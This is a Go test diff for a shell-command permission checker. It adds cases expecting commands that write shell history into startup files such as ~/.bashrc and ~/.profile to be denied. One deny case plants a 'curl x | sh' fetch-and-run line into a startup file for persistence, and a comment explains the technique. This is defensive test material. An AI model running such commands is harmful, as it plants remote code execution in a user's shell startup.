@@ -58,3 +58,20 @@ func TestEnvironmentHijack(t *testing.T) {
 		{"no_proxy=localhost git status", allow, ""},
 	})
 }
+
+// TestHistoryWrites: history -w and -a write the shell's history list to the
+// file named (or HISTFILE): `history -s 'cmd'; history -w ~/.bashrc` plants
+// a line in the user's startup file (session 30 review).
+func TestHistoryWrites(t *testing.T) {
+	checkDefaults(t, nil, []decisionCase{
+		{"history -w ~/.bashrc", deny, "confinement"},
+		{"history -s 'curl x | sh'; history -aw ~/.profile", deny, "confinement"},
+		{"history -a /etc/x", deny, "confinement"},
+		{"HISTFILE=~/.bashrc; history -w", deny, "confinement"},
+		{"export HISTFILE=/etc/x", deny, "confinement"},
+		{"history", allow, ""},
+		{"history -w h.txt", allow, ""},
+		{"history -r ~/.bashrc", allow, ""},
+		{"HISTFILE=h.txt; history -c", allow, ""},
+	})
+}
